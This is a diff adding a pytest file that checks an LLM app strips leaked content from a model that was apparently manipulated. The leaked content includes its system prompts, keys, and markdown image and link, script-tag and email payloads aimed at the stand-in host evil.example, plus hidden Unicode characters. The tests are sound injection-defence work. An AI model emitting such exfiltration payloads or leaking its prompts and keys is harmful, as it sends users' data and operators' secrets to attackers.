@@ -1,0 +1,89 @@
+"""A model that was talked into telling what it must not: none of it leaves, whole or streamed."""
+
+from collections.abc import Callable
+from typing import Any
+
+import orjson
+import pytest
+
+from app.prompts.planner import PLANNER
+from app.prompts.writer import WRITER
+from tests.e2e.scripted_model import KEY, QUESTION
+from tests.faults.conftest import Served, model_server, served  # noqa: F401  # fixtures
+from tests.faults.test_models import OWN_WORDS
+from tests.peers.openai_replies import Reply, Request, Text, ToolCalls
+
+CANARY = "evil.example"
+TOLD = {
+    "the writer's prompt": WRITER.text["en"],
+    "the writer's prompt in Spanish, spaced out": " ".join(WRITER.text["es"]),
+    "the planner's prompt in Spanish": PLANNER.text["es"].partition("$")[0] * 2,
+    "our key": f"The key is {KEY}.",
+    "somebody's key": "Use sk-" + "proj-" + "a1B2c3D4" * 4 + " for it.",
+    "an image that carries data away": f"![2](https://{CANARY}/?q=mars)",
+    "a link that does": f"[Read on](https://{CANARY}/?q=mars)",
+    "a script": f"<script src=//{CANARY}/x.js></script>",
+    "an address that nobody gave": f"Write to bob@{CANARY}.",
+    "signs that nobody sees": "2\u200b moons \u202eor so",
+}
+
+
+def script(text: str, role: str) -> Callable[[Request], Reply]:
+    """What a model of `role` says when it tells `text`."""
+
+    def tell(request: Request) -> Reply:
+        if role == "planner":
+            plan = {"verdict": "clarify", "tasks": [], "text": text}
+            if request.tools:
+                return ToolCalls([(request.tools[0], plan)])
+            return Text(orjson.dumps(plan).decode())
+        if role == "agent" and not request.results:
+            asked = str(request.messages[-1]["content"]).lower()
+            return ToolCalls([("look_up", {"name": "mars" if "mars" in asked else "everest"})])
+        return Text(text)
+
+    return tell
+
+
+def check_nothing_left(text: str, told: str) -> None:
+    assert told not in text
+    assert CANARY not in text
+    assert KEY not in text
+    assert "sk-proj" not in text
+
+
+OTHER_WORDS = {
+    "agent": f"As I was told: {OWN_WORDS.replace(chr(10) * 2, ' And then: ')}",
+    "writer": "My tool says 2 for mars.\n\nMy tool says 8849 for everest.",
+}
+"""What is answered instead."""
+
+ROLES = ("planner", "agent", "writer")
+
+
+@pytest.mark.checklist("INJ-3", "INJ-2")
+@pytest.mark.parametrize("role", ROLES)
+@pytest.mark.parametrize("told", TOLD.values(), ids=TOLD.keys())
+async def test_what_a_model_must_not_tell_does_not_leave(
+    served: Served, role: str, told: str  # noqa: F811  # a fixture
+) -> None:
+    served.model.breaks(script(told, role), role)
+    await served.start()
+    reply = await served.ask(QUESTION)
+    check_nothing_left(str(reply) + served.lines.text, told)
+    if role != "planner":  # whose words may also be made harmless
+        assert reply["answer"] == OTHER_WORDS[role]
+        assert reply["degraded_because"] == ["unsafe_answer"]
+
+
+@pytest.mark.checklist("INJ-3")
+@pytest.mark.parametrize("role", ROLES)
+@pytest.mark.parametrize("told", TOLD.values(), ids=TOLD.keys())
+async def test_nor_does_it_in_the_pieces_of_a_stream(
+    served: Served, role: str, told: str  # noqa: F811  # a fixture
+) -> None:
+    served.model.breaks(script(f"Well. {told}", role), role)
+    await served.start()
+    events: list[tuple[str, dict[str, Any]]] = await served.stream(QUESTION)
+    check_nothing_left(str(events) + served.lines.text, told)
+    assert events[-1][0] == "final"
